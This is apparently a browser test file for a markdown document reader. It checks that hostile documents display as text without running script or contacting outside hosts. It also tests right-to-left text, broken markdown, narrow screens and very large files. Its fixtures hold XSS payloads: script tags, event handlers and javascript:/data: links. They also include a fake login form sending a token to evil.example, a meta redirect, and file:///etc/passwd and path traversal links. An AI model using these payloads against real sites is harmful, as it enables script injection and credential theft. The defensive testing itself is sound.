/** Documents of strangers in a real browser: shown, and harmless. */

import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, it, vi } from 'vitest';
import { openStage, picture, type Stage, textOf, until } from './browser.ts';

const SCRIPT = `---
title: "<img src=x onerror=hacked('title')>Scripts"
description: "Birds of prey <script>hacked('description')</script> and what they hunt."
triggers: ["<b onclick=hacked('trigger')>hawks</b> and eagles of the mountains"]
---
# Birds of prey <script>hacked('heading')</script>

<script>hacked('block')</script>
<img src="x" onerror="hacked('image')"> <iframe src="https://evil.example/frame"></iframe>
<style>* { display: none !important }</style> <svg onload="hacked('svg')"><a href="javascript:hacked('svg link')">a</a></svg>
<form action="https://evil.example/"><input name="token"><button>Log in</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<a href="https://evil.example/" onclick="hacked('link')" style="position:fixed;inset:0">all over</a>

[script](javascript:hacked('markdown')) [data](data:text/html,<script>hacked('data')</script>) [vb](vbscript:hacked)
[file](file:///etc/passwd) [up](../../../etc/secret.md) [mail](mailto:a@b.example) [entity](&#106;avascript:hacked('entity'))

![a pixel](https://evil.example/pixel.png) ![local](./pixel.png) <https://evil.example/auto>

- [x] done
- [ ] open

[^1]: A footnote of birds.

Eagles[^1].
`;
const ARABIC = `---
title: سياسة الإرجاع
description: كيف يسترد العميل المبلغ المدفوع وما هي المهلة المتاحة لذلك.
---
# سياسة الإرجاع

يمكن للعميل استرداد المبلغ خلال ثلاثين يوما. \u202edesrever si siht\u202c

Left to right again.
`;
const BROKEN = `---
description: "Whales and dolphins, with broken markdown of every kind."
---
# Whales ## and dolphins

###### Deep at once

${'>'.repeat(500)} quoted

${'- '.repeat(200)}listed

${'['.repeat(3000)}${'*_'.repeat(3000)}

${'_a*'.repeat(5000)}

| a | b
|---
| ${'|'.repeat(500)}

\`\`\`
a fence that never ends <b>bold</b>

# no heading ${'&'.repeat(100)}&amp;&#0;&#x110000;
`;
const LONG = `---
title: ${'Volcanoes'.repeat(40)}
description: ${'lava'.repeat(100)} volcanoes and ashes
triggers: ["volcanoes ${'ashes'.repeat(50)}"]
---
# ${'Volcanoes'.repeat(40)}

${'x'.repeat(500)} \`${'y'.repeat(500)}\` https://example.org/${'z'.repeat(500)}
`;
const WORDS = 'Glaciers move slowly and carve valleys over centuries. ';
const HUGE = [
  '---',
  'description: Glaciers, with a text of several megabytes.',
  '---',
  '# Glaciers',
  '',
  `${`${WORDS.repeat(20)}\n\n`.repeat(1500)}`,
  'x'.repeat(300_000),
  '',
  `${'| cell '.repeat(50)}|\n${'| --- '.repeat(50)}|\n${`${'| glacier '.repeat(50)}|\n`.repeat(400)}`,
  'The very last line.',
].join('\n');

// A browser beside other tests takes its time.
vi.setConfig({ testTimeout: 90_000 });
let stage: Stage;
let url: string;
const root = mkdtempSync(join(tmpdir(), 'signpost-hostile-'));
beforeAll(async () => {
  const files = { 'script.md': SCRIPT, 'arabic.md': ARABIC, 'broken.md': BROKEN, 'long.md': LONG, 'huge.md': HUGE };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(root, name), text);
  stage = await openStage();
  url = await stage.serve('--root', root);
}, 120_000);
afterAll(async () => {
  await stage.close();
  rmSync(root, { recursive: true });
});
afterEach(() => expect(stage.problems.splice(0)).toEqual([]));

async function read(id: string, query = '') {
  const page = await stage.open(`${url}/?${new URLSearchParams({ q: query, read: id })}`);
  await page.waitForSelector('.reader .block');
  return page;
}

it('runs no script, loads nothing and sends nowhere', async () => {
  const context = await stage.browser.newContext();
  const page = await context.newPage();
  const calls: string[] = [];
  await page.exposeFunction('hacked', (where: string) => calls.push(where));
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await page.goto(`${url}/?${new URLSearchParams({ q: 'birds of prey', read: 'script.md' })}`);
  await page.waitForSelector('.reader .block');
  const text = await textOf(page, '.text');
  // It is shown as it was written.
  for (const shown of [
    "<script>hacked('block')</script>",
    '<iframe',
    'onerror=',
    '<style>',
    '[image: a pixel]',
    '☑ done',
  ]) {
    expect(text).toContain(shown);
  }
  expect(await textOf(page, '.decision h2')).toContain('<img src=x');
  const elements = 'script, img, iframe, style, svg, form, input, button, meta, [onclick], [onerror], [style], [id]';
  expect(await page.locator(`.text :is(${elements})`).count()).toBe(0);
  const links = await page.evaluate<string[]>("[...document.querySelectorAll('.text a')].map((link) => link.href)");
  expect(links.length).toBeGreaterThan(0);
  for (const link of links) expect(link).toMatch(/^https:\/\/evil\.example\/|^http:\/\/127\.0\.0\.1:\d+\/\?/);
  for (const label of ['script', 'data', 'vb', 'file', 'up', 'mail', 'entity']) {
    await page
      .locator('.text span', { hasText: new RegExp(`^${label}$`) })
      .first()
      .click();
  }
  const rels = await page.evaluate<string[]>(
    "[...document.querySelectorAll('.text a[target]')].map((link) => link.rel)",
  );
  for (const rel of rels) expect(rel).toContain('noopener');
  await page.hover('.text');
  await page.waitForTimeout(300);
  expect(calls).toEqual([]);
  expect(asked.filter((path) => !/^\/(?:$|app\.|v1\/)/.test(path))).toEqual([]);
  expect(new URL(page.url()).origin).toBe(url);
  await picture(page, 'hostile-script');
  await context.close();
});

it('lets a text run from right to left within itself', async () => {
  const page = await read('arabic.md', 'استرداد المبلغ');
  const [rtl, ltr] = await page.evaluate<string[]>(
    "['.text p', '.text p:last-of-type'].map((at) => getComputedStyle(document.querySelector(at)).direction)",
  );
  expect([rtl, ltr]).toEqual(['rtl', 'ltr']);
  expect(await page.getAttribute('.text p', 'lang')).toBe('ar');
  expect(await page.evaluate('document.documentElement.dir + getComputedStyle(document.body).direction')).toBe('ltr');
  expect(await page.locator('.text mark').count()).toBeGreaterThan(0);
  await picture(page, 'hostile-right-to-left');
  await page.close();
});

it('shows broken markdown without getting stuck', async () => {
  const page = await read('broken.md');
  await page.click('text=Show all');
  await page.waitForSelector('text=Show all', { state: 'detached' });
  await until(page, "document.querySelector('.text').textContent.includes('a fence that never ends <b>bold</b>')");
  const levels = await page.evaluate<number[]>(
    "[...document.querySelectorAll('h1, h2, h3, h4, h5, h6')].map((heading) => Number(heading.tagName[1]))",
  );
  for (const [at, level] of levels.entries()) expect(level - (levels[at - 1] ?? 0)).toBeLessThanOrEqual(1);
  await page.close();
});

it.each([
  { id: 'long.md', query: '' },
  { id: 'script.md', query: 'birds of prey' },
  { id: 'arabic.md', query: 'استرداد المبلغ' },
  { id: 'broken.md', query: 'whales and dolphins' },
  { id: 'long.md', query: `volcanoes and ashes ${'q'.repeat(200)}` },
])('$id, asked for “$query”, is no wider than a phone', async ({ id, query }) => {
  const page = await stage.open(`${url}/?${new URLSearchParams({ q: query, read: id })}`, {
    viewport: { width: 360, height: 700 },
    isMobile: true,
    hasTouch: true,
  });
  await page.waitForSelector(query === '' ? '.examples button' : '.row');
  await page.waitForSelector('.reader .block');
  expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBe(360);
  await page.close();
});

it('cuts a huge document, and shows all of it on demand while the page stays alive', async () => {
  const page = await read('huge.md');
  const cut = await page.evaluate<number>("document.querySelector('.text').textContent.length");
  expect(cut).toBeLessThan(30_000);
  // The longest time in which the page could do nothing else.
  await page.evaluate(
    'window.longest = 0; window.last = performance.now(); setInterval(() => { const now = performance.now(); longest = Math.max(longest, now - last); last = now; }, 10)',
  );
  await page.click('text=Show all');
  await until(page, "document.querySelector('.text').textContent.includes('The very last line.')", 60_000);
  expect(await page.evaluate<number>('longest')).toBeLessThan(2_000);
  expect(await page.evaluate<number>("document.querySelector('.text').textContent.length")).toBeGreaterThan(1_900_000);
  await page.waitForSelector('text=Show all', { state: 'detached' });
  expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBe(1280);
  await page.close();
});
